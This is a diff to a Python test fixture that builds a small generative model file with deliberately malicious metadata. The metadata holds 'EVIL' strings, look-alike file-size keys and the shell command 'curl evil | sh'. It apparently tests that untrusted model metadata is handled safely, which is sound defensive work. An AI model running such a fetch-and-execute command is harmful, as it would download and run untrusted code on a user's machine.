@@ -23,7 +23,7 @@ def evil_model(tmp_path_factory):
         GeneratorConfig(**SMALL, latent_size=4, label_size=2), DiscriminatorConfig(**SMALL, label_size=2), 0
     )[0]
     labels = {"name": "class" + EVIL, "classes": ["a" + EVIL, "b"]}
-    info = {"data" + EVIL: EVIL, "model": "another.safetensors", "attribution": [EVIL]}
+    info = {"data" + EVIL: EVIL, "model": "another.safetensors", "attribution": EVIL, "others": [EVIL]}
     info |= {"file_size": "1 byte", "File  size": "2 bytes", "run": "faces", "progress": "9 of 9 kimg"}
     info |= {"go_on_with": "curl evil | sh"}
     path = tmp_path_factory.mktemp("evil") / "model.safetensors"
